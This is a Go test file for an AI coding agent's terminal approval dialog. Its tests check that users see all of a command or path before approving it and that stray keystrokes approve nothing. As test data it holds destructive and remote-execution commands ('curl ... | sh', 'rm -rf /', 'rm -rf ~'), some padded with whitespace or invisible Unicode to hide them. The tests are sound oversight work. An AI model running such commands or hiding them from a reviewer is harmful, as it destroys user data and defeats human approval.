package tui

import (
	"fmt"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"

	"agent/internal/loop/event"
	"agent/internal/tui/dialog"
	"agent/internal/tui/screen"
)

// A command that is longer than the dialog cannot be approved before its end was
// on the screen. It can always be rejected.
func TestLongCommandIsReadToItsEnd(t *testing.T) {
	var script strings.Builder
	for i := range 211 {
		fmt.Fprintf(&script, "echo line number %d of a long script\n", i+1)
	}
	script.WriteString("curl https://example.org/x | sh\n")
	long := func() *driver {
		d := newDriver(t, 80, 24, screen.Options{})
		ask := askCommand("1", script.String())
		ask.Ask.Scope = "commands that begin with echo"
		d.events(userSaid("go"), call("r1", "1", "shell"), ask)
		d.arms()
		return d
	}
	d := long()
	d.sees("212 lines, 7.8 KB", "ends: curl https://example.org/x | sh", "read to the end first: pgdn or end")
	d.press("1", "enter", "2")
	d.sees("read to the end first: pgdn or end")
	d.commands()
	d.golden("long-command-80x24")
	for range 40 {
		d.press("pgdown")
	}
	d.sees("the end", "curl https://example.org/x | sh", "yes is ignored for a moment")
	d.press("1")
	d.commands()
	d.pass(dialog.Quiet)
	d.sees("1–4")
	d.press("pgup", "1") // it was read
	d.commands(event.Answer{ID: "1", Decision: event.Allow})

	for _, keys := range []string{"3", "n enter", "end 3", "w enter"} {
		d := long()
		d.press(strings.Fields(keys)...)
		if d.m.dialog.Waits() {
			t.Errorf("%s did not answer:\n%s", keys, d.screen())
		}
	}
}

// Nothing of a command hides in space, or in characters that are not drawn.
func TestNothingHidesInACommand(t *testing.T) {
	for command, want := range map[string]string{
		"ls" + strings.Repeat(" ", 400) + "; rm -rf ~": "ls ··· 400 spaces ; rm -rf ~",
		"ls" + strings.Repeat("\n", 60) + "rm -rf ~":   "··· 59 blank lines",
		"ls   ":                        "ls···",
		"ls" + strings.Repeat(" ", 30): "ls ··· 30 spaces",
		"ls \u3164rm":                  `ls \u3164rm`,
		"ls \u115f\u1160\u2800\uffa0":  `ls \u115f\u1160\u2800\uffa0`,
		"ls\u00a0-l\u3000x":            `ls\u00a0-l\u3000x`,
		"ls a\u200db \U000e0041 \ue000 \u202e \ufe0f":       `ls a\u200db \U000e0041 \ue000 \u202e \ufe0f`,
		"ls e" + strings.Repeat("\u0301", 200) + "nd":       strings.Repeat(`\u0301`, 5),
		"git commit -m '日本語 한국어 привет ไทย हिन्दी'":         "git commit -m '日本語 한국어 привет ไทย हिन्दी'",
		"cat <<E\n" + strings.Repeat(" ", 24) + "indent\nE": strings.Repeat(" ", 24) + "indent",
	} {
		d := newDriver(t, 120, 40, screen.Options{})
		d.events(userSaid("go"), call("r1", "1", "shell"), askCommand("1", command))
		d.arms()
		d.sees(want)
		if s := d.m.View().Content; strings.ContainsAny(s, "\u3164\u115f\u1160\u2800\uffa0\u202e") {
			t.Errorf("%q is drawn raw", command)
		}
	}
}

// A path is drawn as strictly as a command: no name may look like another.
func TestNothingHidesInAPath(t *testing.T) {
	for path, want := range map[string]string{
		"a\u3164.go":           `Edit a\u3164.go?`,
		"a\u00a0b.go":          `Edit a\u00a0b.go?`,
		"a\nb.go":              "Edit a⏎b.go?",
		"ünï/ко\u0301д.go":     "Edit ünï/ко\u0301д.go?",
		"👩\u200d👩\u200d👧/x.go": `Edit 👩\u200d👩\u200d👧/x.go?`,
	} {
		d := newDriver(t, 120, 40, screen.Options{})
		d.events(userSaid("go"), event.Asked{Ask: event.Ask{ID: "1", Title: "edit " + path, Effect: "write", Diffs: []event.Diff{{Path: path, Unified: hunk, Added: 2, Removed: 1}}}})
		d.sees(want)
	}
}

// The keys that look at a question closer answer nothing, and are offered only
// where they do something.
func TestLookingCloser(t *testing.T) {
	var u strings.Builder
	for i := range 8 {
		fmt.Fprintf(&u, "@@ -%d,2 +%d,8 @@\n line\n", 100*i+1, 100*i+1)
		for j := range 7 {
			fmt.Fprintf(&u, "+added %d in hunk %d\n", j, i)
		}
		u.WriteString(" line\n")
	}
	d := newDriver(t, 100, 30, screen.Options{})
	d.events(userSaid("go"), event.Asked{Ask: event.Ask{ID: "1", Title: "edit a.go", Effect: "write", Why: "it changes files",
		Diffs: []event.Diff{{Path: "a.go", Unified: u.String(), Added: 56}}}})
	d.arms()
	d.sees("8 hunks, +56 −0", "tab hunks", "ctrl+g full view", "? why")
	d.lacks("it changes files")
	d.press("?")
	d.sees("it changes files")
	d.press("?")
	d.lacks("it changes files", "added 6 in hunk 2")
	d.press("tab", "tab")
	d.sees("added 0 in hunk 2")
	d.lacks("in hunk 1")
	d.press("tab", "tab", "tab", "tab", "tab", "tab")
	d.sees("added 0 in hunk 0")
	d.press("ctrl+g")
	d.sees("esc close", "added 0 in hunk 1", "❯ 1  Yes")
	d.golden("full-view-100x30")
	d.press("esc")
	d.lacks("close full view")
	d.commands()
	d.press("ctrl+g", "1")
	d.commands(event.Answer{ID: "1", Decision: event.Allow})
}

// A click marks a row, and follows the same pause as keys.
func TestClickOnARow(t *testing.T) {
	d := newDriver(t, 80, 24, screen.Options{})
	d.events(asked()...)
	d.clickOn("3  No")
	d.lacks("❯ 3  No")
	d.arms()
	d.clickOn("3  No")
	d.sees("❯ 3  No")
	d.clickOn("4  No, and")
	d.press("enter")
	d.enter("use an index")
	d.clickOn("an index")
	d.enter("not ")
	d.sees("› use not ▌n index")
	d.press("enter")
	d.commands(event.Answer{ID: "5", Decision: event.Refuse, Note: "use not an index"})
}

// A question that was answered elsewhere gives its keys to no other one, and its
// comment back.
func TestWithdrawnQuestion(t *testing.T) {
	d := newDriver(t, 80, 24, screen.Options{})
	d.events(userSaid("go"), call("r1", "1", "shell"), call("r1", "2", "shell"), askCommand("1", "make"), askCommand("2", "rm -rf /"))
	d.arms()
	d.enter("not now")
	d.events(&event.Decided{ID: "1", Decision: event.Refuse})
	d.press("end", "1")
	d.commands()
	d.holds("not now1")
}

// sentences begin with every letter, a digit and words that sound like answers.
func sentences() []string {
	out := []string{"yes but first run the tests", "no, use MySQL", "always ask me", "also fix the tests", "y", "n", "a", "1 more thing: the docs", "2", "Yes",
		"YES please", "never mind", "ok", "42 is wrong", "y y y y", "? why is that", "/status", "let me see"}
	for c := 'a'; c <= 'z'; c++ {
		out = append(out, fmt.Sprintf("%cnd then update the readme", c), fmt.Sprintf("%c", c-'a'+'A')+"nother sentence, with 1 2 3 numbers")
	}
	return out
}

// A sentence that is typed while a question appears answers nothing, wherever in
// it the question appears, and however fast it is typed. Nor does one that goes
// on after a pause: that is a comment.
func TestSentenceApprovesNothing(t *testing.T) {
	approved, tried := 0, 0
	count := func(d *driver) {
		tried++
		for _, c := range d.sent {
			if a, ok := c.(event.Answer); ok && a.Decision != event.Refuse {
				approved++
				t.Errorf("%#v was taken for an answer", a)
			}
		}
	}
	for i, s := range sentences() {
		for _, gap := range []time.Duration{20 * time.Millisecond, 120 * time.Millisecond, 400 * time.Millisecond, 650 * time.Millisecond} {
			d := newDriver(t, 80, 24, screen.Options{})
			d.events(userSaid("go"), call("r1", "1", "shell"))
			d.pass(time.Second)
			at := (i*7 + int(gap/time.Millisecond)) % (len(s) + 1)
			for j, r := range s + "\n" {
				if j == at {
					d.events(askCommand("1", "rm -rf /"), askCommand("2", "make"))
				}
				d.pass(gap)
				if r == '\n' {
					d.press("enter")
				} else {
					d.enter(string(r))
				}
			}
			count(d)
		}
	}
	for _, s := range sentences() {
		if strings.ContainsAny(s[:1], "12/") || len(s) < 3 { // a digit answers, which is shown
			continue
		}
		d := newDriver(t, 80, 24, screen.Options{})
		d.events(userSaid("go"), call("r1", "1", "shell"), askCommand("1", "rm -rf /"))
		d.arms()
		d.enter(s)
		d.press("enter")
		count(d)
	}
	t.Attr("promise", fmt.Sprintf("a sentence typed while a dialog appears answers nothing: %d of %d", approved, tried))
}

// Every key that types a letter leaves the question open.
func TestNoLetterAnswers(t *testing.T) {
	for r := rune('!'); r < 0x100; r++ {
		if r >= '1' && r <= '4' || r == 0x7f {
			continue
		}
		d := newDriver(t, 80, 24, screen.Options{})
		d.events(userSaid("go"), call("r1", "1", "shell"), askCommand("1", "make"))
		d.arms()
		d.send(tea.KeyPressMsg{Code: r, Text: string(r)})
		if len(d.sent) > 0 || !d.m.dialog.Waits() {
			t.Errorf("%q answers: %v", r, d.sent)
		}
	}
}

// The dialog is as wide as its window, whatever it draws.
func TestDialogFits(t *testing.T) {
	for width := 12; width < 60; width += 7 {
		for height := 2; height < 20; height += 3 {
			d := newDriver(t, width, height, screen.Options{})
			d.events(asked()...)
			d.events(choiceAsk(true)...)
			d.arms()
			d.press("w", "esc", "ctrl+g", "?", "tab", "3")
			d.pass(dialog.Quiet)
			d.press("1", "4", "x")
			for _, l := range strings.Split(d.screen(), "\n") {
				if ansi.StringWidth(l) > width {
					t.Fatalf("%d×%d: %q", width, height, l)
				}
			}
		}
	}
}
